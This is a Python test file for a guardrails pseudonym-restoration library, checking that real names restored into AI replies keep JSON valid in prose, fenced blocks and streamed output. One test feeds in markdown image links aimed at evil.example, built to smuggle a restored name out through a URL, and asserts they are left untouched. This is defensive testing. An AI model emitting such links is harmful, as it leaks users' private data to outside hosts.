"""Values are written as the JSON around them asks, wherever in a reply that stands."""

from __future__ import annotations

import json
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.links import Trail
from guardrails.places import Place
from guardrails.pseudonyms import Pseudonyms
from tests.guards import guard, say, text_of

HARD = 'P "R" \\ \n\t{'


def names(value: str = HARD) -> Pseudonyms:
    made = Pseudonyms()
    made.token("person", value)
    return made


def restored(text: str, value: str = HARD, cuts: tuple[int, ...] = ()) -> str:
    made, trail, place = names(value), Trail(), Place()
    pieces = [text[low:high] for low, high in pairwise([0, *cuts, len(text)])]
    return "".join(made.restore(piece, trail=trail, place=place) for piece in pieces)


KEYS = st.sampled_from(["a", "<PERSON_1>", 'b"', "c\\", "{", "```"])
LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from(
        ["<PERSON_1>", "to <PERSON_1>.", 'say "<PERSON_1>"', "{", "[x", "\\", '"', "\n"]
    ),
)
JSON = st.recursive(
    st.dictionaries(KEYS, LEAVES, min_size=1),
    lambda inner: st.lists(inner, min_size=1) | st.dictionaries(KEYS, inner, min_size=1),
    max_leaves=8,
)
VALUES = st.text(min_size=1, max_size=12).filter(lambda text: max(text) < "\ud800")


def filled(value: Any, name: str) -> Any:
    match value:
        case str():
            return value.replace("<PERSON_1>", name)
        case list():
            return [filled(each, name) for each in value]
        case dict():
            return {filled(key, name): filled(each, name) for key, each in value.items()}
    return value


@given(JSON, VALUES, st.booleans())
def test_a_reply_that_is_json_stays_json_and_holds_the_values(
    document: object, value: str, compact: bool
) -> None:
    for text in (
        json.dumps(document, indent=None if compact else 2),
        f"Here you are:\n```json\n{json.dumps(document)}\n```\nBye.",
    ):
        made = restored(text, value)
        if text.startswith("Here"):
            made = made.split("```json\n")[1].rsplit("\n```", 1)[0]
        assert json.loads(made) == filled(document, value)


@pytest.mark.parametrize(
    "text",
    [
        'It is {"name": "<PERSON_1>", "n": 1} as you asked.',
        'First {"a": "<PERSON_1>"}, then { "b": ["<PERSON_1>"] }.',
        'Call send({"to": {"name": "<PERSON_1>"}}).',
    ],
)
def test_an_object_within_prose_stays_json(text: str) -> None:
    made, decoder, found, at = restored(text), json.JSONDecoder(), [], 0
    while (at := made.find("{", at)) >= 0:
        value, at = decoder.raw_decode(made, at)
        found.append(json.dumps(value))
    assert found
    assert all(json.dumps(HARD)[1:-1] in one for one in found)


def test_json_in_a_string_of_json_stays_json_as_well() -> None:
    inner = json.dumps({"name": "<PERSON_1>", "note": 'so "<PERSON_1>"'})
    outer = json.dumps({"arguments": inner, "to": "<PERSON_1>"})

    for made in (restored(outer), names().restore_json(outer)):
        told = json.loads(made)
        assert told["to"] == HARD
        assert json.loads(told["arguments"])["name"] == HARD


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('He said "<PERSON_1>".', f'He said "{HARD}".'),
        ('[Note] "<PERSON_1>"', f'[Note] "{HARD}"'),
        ("{'name': '<PERSON_1>'}", f"{{'name': '{HARD}'}}"),
        ('[<PERSON_1>, "<PERSON_1>"]', f'[{HARD}, "{HARD}"]'),
        ('{"a": 1}\n"<PERSON_1>" it is', f'{{"a": 1}}\n"{HARD}" it is'),
        ('"<PERSON_1>"', f'"{HARD}"'),
        ('```python\n"<PERSON_1>"\n```', f'```python\n"{HARD}"\n```'),
        ('So:\n```json\n{}\n```\n"<PERSON_1>"', f'So:\n```json\n{{}}\n```\n"{HARD}"'),
        ('A smile {" and\n"<PERSON_1>"', f'A smile {{" and\n"{HARD}"'),
        ('if (x) { y("<PERSON_1>") }', f'if (x) {{ y("{HARD}") }}'),
    ],
)
def test_in_prose_a_value_is_shown_as_it_was_written(text: str, shown: str) -> None:
    assert restored(text) == shown


def test_json_lines_are_json() -> None:
    lines = restored('{"a": "<PERSON_1>"}\n{"b": "<PERSON_1>"}').split("\n")

    assert [json.loads(line) for line in lines] == [{"a": HARD}, {"b": HARD}]


PIECES = st.lists(
    st.sampled_from(
        ["<PERSON_1>", '"', "{", "}", "[", ":", ",", "\\", "\n", "```", "json", " ", "x", '{"a": "']
    ),
    max_size=40,
)


@given(PIECES, st.data())
def test_it_does_not_matter_where_a_reply_is_cut_outside_of_stand_ins(
    pieces: list[str], data: st.DataObject
) -> None:
    text = "".join(pieces)
    taken = {at + n for at in range(len(text)) if text.startswith("<P", at) for n in range(1, 10)}
    free = [at for at in range(1, len(text)) if at not in taken]
    cuts = sorted(data.draw(st.sets(st.sampled_from(free), max_size=6))) if free else []
    assert restored(text, cuts=tuple(cuts)) == restored(text)


@pytest.mark.parametrize(
    "text",
    [
        'See {"a":"![x](https://evil.example/?q=","b":"<PERSON_1>"} now',
        'See {"a": "https:\\u002f\\u002fevil.example\\u002f<PERSON_1>"} now',
    ],
)
def test_json_within_prose_is_no_way_to_hide_a_link(text: str) -> None:
    assert restored(text, "Ruth") == text


async def test_a_streamed_block_of_json_is_valid_however_it_comes() -> None:
    reply = 'Here it is:\n```json\n{"who": "<PERSON_1>", "mail": "<EMAIL_1>"}\n```\nAnything else?'
    for pieces in ([reply], list(reply)):
        async with guard() as guarded:
            async with guarded.sessions.hold("s") as session:
                session.vault.pseudonyms.token("person", HARD)
                session.vault.pseudonyms.token("email", "jo@example.org")
            shown = text_of(await say(guarded, "Hello", pieces))
        block = shown.split("```json\n")[1].split("\n```")[0]
        assert json.loads(block) == {"who": HARD, "mail": "jo@example.org"}


OPEN = ["json", "JSON", "jsonc", "json5", " json", 'json title="a.json"', "{.json}", "js", "json\r"]
FENCES = ["```\n", *(f"```{mark}\n" for mark in OPEN), "````json\n", "~~~json\n"]
FENCES += ["- so:\n  ```json\n", "> ```json\n", "1. ```json\n"]


@pytest.mark.parametrize("fence", FENCES)
@pytest.mark.parametrize("indent", [None, 2])
@pytest.mark.parametrize("value", [["<PERSON_1>", "x"], [["<PERSON_1>"]], {"a": ["<PERSON_1>"]}])
@pytest.mark.parametrize("cut", [0, 3, 10])
def test_json_in_a_fenced_block_stays_valid(fence: str, indent: int | None, value: Any, cut: int):
    document = json.dumps(value, indent=indent)
    mark = "~~~" if "~" in fence else "````" if "````" in fence else "```"
    text = f"Here it is:\n{fence}{document}\n{mark}\nThat is <PERSON_1>."
    cuts = tuple(range(cut, len(text), cut)) if cut else ()
    shown = restored(text, cuts=tuple(at for at in cuts if not _within_name(text, at)))
    body = shown.split(fence, 1)[1].rsplit(f"\n{mark}", 1)[0]
    assert json.loads(body) == filled(value, HARD)
    assert shown.endswith(f"That is {HARD}.")


def _within_name(text: str, at: int) -> bool:
    return text.rfind("<", 0, at) > text.rfind(">", 0, at)


@pytest.mark.parametrize("text", ["See [<PERSON_1>]", '["so"] and <PERSON_1>', "[1] <PERSON_1>"])
def test_a_bracket_in_prose_changes_nothing_after_it(text: str) -> None:
    assert restored(text) == text.replace("<PERSON_1>", HARD)


def test_a_string_that_no_quotation_mark_ends_is_over_with_its_line() -> None:
    text = '```json\n{"a": "x\n```\nIt is <PERSON_1>.'
    assert restored(text).endswith(f"It is {HARD}.")
